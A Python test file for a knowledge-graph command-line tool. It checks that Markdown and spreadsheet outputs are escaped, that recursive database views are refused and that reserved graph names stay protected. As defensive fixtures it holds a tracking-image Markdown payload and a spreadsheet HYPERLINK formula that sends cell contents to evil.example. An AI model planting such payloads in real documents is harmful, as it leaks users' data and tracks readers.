"""Issue 18, second round: Markdown and spreadsheet outputs that cannot be turned against
their reader, pipeline databases that cannot make a build run forever, and messages that
say what is wrong in a line."""

from __future__ import annotations

import csv
import html
import io
import json
import re
import sqlite3
from pathlib import Path

import pyoxigraph as ox
import pytest
from markdown_it import MarkdownIt

import kg
from kg.text import markdown_code, markdown_text, spreadsheet_cell, spreadsheet_safe

# ------------------------------------------------------------ item 10: Markdown

HOSTILE_MODELS = [
    "![pwned](https://evil.example/track.png)",
    "[click me](https://evil.example/)",
    "*Bold* _Net_ `Code` a|b ~~gone~~ www.evil.example",
]
#: What a Markdown renderer must not make of a name: images, links, emphasis, code, strikes.
MARKUP_TAGS = re.compile(r"<(img|a|em|strong|code|s|del)\b")


def _render(markdown: str) -> str:
    return MarkdownIt("commonmark").enable("table").enable("strikethrough").render(markdown)


def _cells(rendered: str) -> list[str]:
    return [html.unescape(cell) for cell in re.findall(r"<td[^>]*>(.*?)</td>", rendered)]


@pytest.fixture(scope="module")
def hostile_names_store(tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp("markdown")
    rows = [
        {
            "doi": f"10.7000/md{index}",
            "title": f"Paper {index}",
            "year": 2021,
            "fields": ["Neuroscience"],
            "model": name,
            "pattern": "Adaptation",
            "stages": ["Test"],
        }
        for index, name in enumerate(HOSTILE_MODELS)
    ]
    path = folder / "names.jsonl"
    path.write_text("\n".join(json.dumps(r) for r in rows) + "\n", encoding="utf-8")
    kg.build(kg.EmbeddedStore(folder / "store"), [path], rejects_dir=folder)
    return folder / "store"


def test_a_model_name_in_a_markdown_result_is_never_markup(cli, hostile_names_store):
    result = cli("query", "top-models", "--format", "md", "--store", hostile_names_store)
    assert result.exit_code == 0, result.output
    rendered = _render(result.stdout)
    assert not MARKUP_TAGS.search(rendered), rendered
    cells = _cells(rendered)
    for name in HOSTILE_MODELS:
        assert name in cells
    assert "://" not in result.stdout and "www." not in result.stdout  # no bare link either


def test_a_model_name_in_report_md_is_never_markup(hostile_names_store, tmp_path):
    written = kg.write_report(kg.EmbeddedStore(hostile_names_store), tmp_path / "report")
    markdown = written.markdown.read_text(encoding="utf-8")
    rendered = _render(markdown)
    images = re.findall(r'<img src="([^"]*)"', rendered)
    assert images and all(src.startswith("charts/") for src in images)  # only our charts
    assert not re.search(r"<(a|em|strong|s|del)\b", rendered)
    for code in re.findall(r"<code>(.*?)</code>", rendered):  # the store and the commands
        assert html.unescape(code) == str(hostile_names_store) or code.startswith("ptmkg ")
    for name in HOSTILE_MODELS:
        assert name in _cells(rendered)


@pytest.mark.parametrize(
    "text",
    [*HOSTILE_MODELS, r"back\slash \*already escaped\*", "<b>bold</b> & more", "line\nbreak"],
)
def test_markdown_text_reads_as_itself(text):
    rendered = _render(markdown_text(text) + "\n")
    assert rendered == f"<p>{html.escape(' '.join(text.split()), quote=False)}</p>\n"


@pytest.mark.parametrize("text", ["/data/my_store", "a`b``c", "`start", "[x](y) *z*"])
def test_markdown_code_shows_the_text_exactly(text):
    rendered = _render(f"in {markdown_code(text)}\n")
    assert rendered == f"<p>in <code>{html.escape(text, quote=False)}</code></p>\n"


# ------------------------------------------------------------ item 11: spreadsheets

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"open")'
CELLS = [FORMULA, "+1+cmd", "-2+3", "@SUM(A1)", "\tx", "'=quoted", "''@", "-5", "1e3", "a", ""]


@pytest.mark.parametrize("cell", CELLS)
def test_spreadsheet_safe_cells_are_text_and_come_back_exactly(cell):
    safe = spreadsheet_safe(cell)
    assert not re.match(r"[=+@\t\r]", safe)
    assert not re.match(r"-", safe) or re.fullmatch(r"-\d+", safe)  # only numbers start so
    assert spreadsheet_cell(safe) == cell


def test_rejects_files_are_safe_in_a_spreadsheet_and_load_back_as_written(cli, tmp_path, write):
    header = "doi,title,year,fields,model,pattern,stages\n"
    title = FORMULA.replace('"', '""')
    source = write(
        "sheet.csv",
        header + f'not-a-doi,"{title}",2021,Neuroscience,BERT,Adaptation,Test\n'
        "10.7000/ok,Fine,2021,Neuroscience,BERT,Adaptation,Test\n",
    )
    rejects = tmp_path / "rejects"
    built = cli("build", source, "--store", tmp_path / "store", "--rejects", rejects)
    assert built.exit_code == 0, built.output
    rejects_file = rejects / "sheet.csv.rejects.csv"
    with rejects_file.open(newline="", encoding="utf-8") as handle:
        (row,) = list(csv.DictReader(handle))
    assert row["title"] == "'" + FORMULA  # a spreadsheet shows the text, runs nothing
    # The user fixes the DOI and loads the rejects file: the title is the one first written.
    fixed = rejects_file.read_text(encoding="utf-8").replace("not-a-doi", "10.7000/fixed")
    again = write("fixed.csv", fixed)
    built = cli("build", source, again, "--store", tmp_path / "store", "--rejects", rejects)
    assert built.exit_code == 0, built.output
    titles = kg.run_sparql(
        kg.EmbeddedStore(tmp_path / "store"),
        "SELECT ?t WHERE { ?p dcterms:title ?t ; bibo:doi '10.7000/fixed' }",
    )
    assert [r["t"] for r in titles.rows] == [FORMULA]


def test_sparql_csv_stays_exact_and_the_spreadsheet_format_is_safe(cli, tmp_path, write):
    source = write(
        "sheet.csv",
        "doi,title,year,fields,model,pattern,stages\n"
        f'10.7000/f,"{FORMULA.replace(chr(34), 2 * chr(34))}",2021,Neuroscience,BERT,'
        "Adaptation,Test\n",
    )
    assert cli("build", source, "--store", tmp_path / "store").exit_code == 0
    query = "SELECT ?title WHERE { ?p a ptm:Paper ; dcterms:title ?title }"
    exact = cli("sparql", query, "--format", "csv", "--store", tmp_path / "store")
    assert list(csv.reader(exact.stdout.splitlines())) == [["title"], [FORMULA]]
    safe = cli("sparql", query, "--format", "spreadsheet", "--store", tmp_path / "store")
    assert safe.exit_code == 0, safe.output
    assert list(csv.reader(safe.stdout.splitlines())) == [["title"], ["'" + FORMULA]]


# ------------------------------------------------------------ item 19: pipeline views


def _pipeline_with_articles_view(path: Path, view: str) -> Path:
    from pipeline_fixture import make_database

    make_database(path)
    with sqlite3.connect(path) as connection:
        connection.execute("DROP TABLE articles")
        connection.execute(f"CREATE VIEW articles AS {view}")
    return path


RECURSIVE = (
    "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n {limit}) "
    "SELECT i AS _id, 1 AS search_id, '10.1371/journal.pone.' || i AS doi, 'T' AS title, "
    "'PLOS' AS megajournal, 'PLOS ONE' AS journal FROM n"
)


def test_a_pipeline_whose_articles_is_a_view_is_refused_at_once(cli, tmp_path):
    # Bounded here so that the test ends either way; unbounded, the view never does.
    database = _pipeline_with_articles_view(tmp_path / "run.db", RECURSIVE.format(limit="LIMIT 5"))
    result = cli("build", database, "--format", "aius", "--store", tmp_path / "store")
    assert result.exit_code == 1, result.output
    assert "'articles' is a view" in result.stderr and str(database) in result.stderr
    assert "Traceback" not in result.output
    assert not (tmp_path / "store").exists() or not kg.EmbeddedStore(tmp_path / "store").exists()


def test_a_recursive_view_that_never_ends_does_not_hang_the_build(tmp_path):
    database = _pipeline_with_articles_view(tmp_path / "run.db", RECURSIVE.format(limit=""))
    with pytest.raises(kg.SourceError, match="view"):
        kg.build(kg.EmbeddedStore(tmp_path / "store"), [database], source_format="aius")


# ------------------------------------------------------------ item 23: messages


def test_a_string_before_an_update_is_a_syntax_error_not_an_empty_query(cli, illustrative_store):
    result = cli(
        "sparql",
        '"SELECT" INSERT DATA { <urn:a> <urn:b> <urn:c> }',
        "--store",
        illustrative_store.location,
    )
    assert result.exit_code == 1
    assert "empty" not in result.stderr
    assert "line 1, column 1" in result.stderr
    assert "SELECT, CONSTRUCT, DESCRIBE or ASK" in result.stderr


def test_ten_thousand_unknown_columns_give_one_short_warning(cli, tmp_path, write):
    extra = [f"extra_{index:05d}" for index in range(10_000)]
    header = ",".join(["doi", "title", "year", "model", "pattern", "stages", *extra])
    row = ",".join(["10.7000/w", "T", "2021", "BERT", "Adaptation", "Test", *("x" * 10_000)])
    source = write("wide.csv", f"{header}\n{row}\n")
    result = cli("build", source, "--store", tmp_path / "store")
    assert result.exit_code == 0, result.output
    (warning,) = [line for line in result.stderr.splitlines() if "ignored" in line]
    assert len(warning) < 300, warning
    assert "'extra_00000'" in warning and "10,000 ignored column(s)" in warning
    assert "9,995 more" in warning


# ------------------------------------------------------------ item 1: system graphs

GENERIC = (
    "doi,title,year,fields,model,pattern,stages\n"
    "10.7000/s1,Mine,2021,Neuroscience,BERT,Adaptation,Test\n"
)


@pytest.mark.parametrize("name", ["model-registry", "link-wikidata", "link-openalex"])
def test_a_source_named_like_a_system_graph_is_refused(cli, tmp_path, write, name):
    store = tmp_path / "store"
    assert cli("build", write("mine.csv", GENERIC), "--store", store).exit_code == 0
    before = kg.EmbeddedStore(store).named_graphs()
    result = cli("build", write(name, GENERIC), "--format", "csv", "--store", store)
    assert result.exit_code == 1, result.output
    assert f"the name {name!r} is kept for ptmkg's own graph" in result.stderr
    assert "Rename the file" in result.stderr and "Traceback" not in result.output
    assert kg.EmbeddedStore(store).named_graphs() == before
    models = kg.run_sparql(kg.EmbeddedStore(store), "SELECT ?m WHERE { ?m a ptm:PretrainedModel }")
    assert len(models.rows) > 1  # the registry graph is still there


def _plant_user_source_at(store_path: Path, name: str, tmp_path: Path) -> str:
    """A store as an older ptmkg left it: a user's source built from a file named ``name``."""
    source = tmp_path / "planted.csv"
    source.write_text(GENERIC, encoding="utf-8")
    scratch = kg.EmbeddedStore(None)
    kg.build(scratch, [source], rejects_dir=tmp_path / "rejects")
    buffer = io.BytesIO()
    scratch.dump(buffer, ox.RdfFormat.N_QUADS)
    planted, graph = (f"{kg.DEFAULT_BASE_IRI}source/{n}" for n in ("planted.csv", name))
    lines = buffer.getvalue().decode("utf-8").splitlines(keepends=True)
    dumped = tmp_path / "planted.nq"
    dumped.write_text(
        "".join(line.replace(planted, graph) for line in lines if f"<{planted}> ." in line)
    )
    with kg.EmbeddedStore(store_path).writing() as writer:
        writer.replace_graph(graph, dumped, ox.RdfFormat.N_QUADS)
    return graph


def _triples(store_path: Path, graph: str) -> int:
    result = kg.run_sparql(
        kg.EmbeddedStore(store_path),
        f"SELECT (COUNT(*) AS ?n) WHERE {{ GRAPH <{graph}> {{ ?s ?p ?o }} }}",
    )
    return int(result.rows[0]["n"])


def test_link_wikidata_drop_never_drops_a_users_source(cli, tmp_path, write):
    store = tmp_path / "store"
    assert cli("build", write("mine.csv", GENERIC), "--store", store).exit_code == 0
    graph = _plant_user_source_at(store, "link-wikidata", tmp_path)
    held = _triples(store, graph)
    assert held > 10
    result = cli("link", "wikidata", "--drop", "--store", store)
    assert result.exit_code == 1, result.output
    assert "holds a source read from a file" in result.stderr
    assert _triples(store, graph) == held


@pytest.mark.parametrize("command", ["wikidata", "openalex"])
def test_a_link_run_never_replaces_a_users_source(cli, tmp_path, write, command):
    store = tmp_path / "store"
    assert cli("build", write("mine.csv", GENERIC), "--store", store).exit_code == 0
    graph = _plant_user_source_at(store, f"link-{command}", tmp_path)
    held = _triples(store, graph)
    # Refused before any request: the endpoints here are never asked.
    endpoints = (
        ["--papers-endpoint", "http://127.0.0.1:9/q", "--models-endpoint", "http://127.0.0.1:9/q"]
        if command == "wikidata"
        else ["--base-url", "http://127.0.0.1:9"]
    )
    result = cli("link", command, *endpoints, "--store", store)
    assert result.exit_code == 1, result.output
    assert "holds a source read from a file" in result.stderr
    assert _triples(store, graph) == held


def test_the_system_graphs_are_the_reserved_names():
    from kg.links import openalex, wikidata
    from kg.models.registry import REGISTRY_SOURCE_NAME
    from kg.rdf.iris import SYSTEM_SOURCE_NAMES

    assert {
        REGISTRY_SOURCE_NAME,
        openalex.SOURCE_NAME,
        wikidata.SOURCE_NAME,
    } == SYSTEM_SOURCE_NAMES
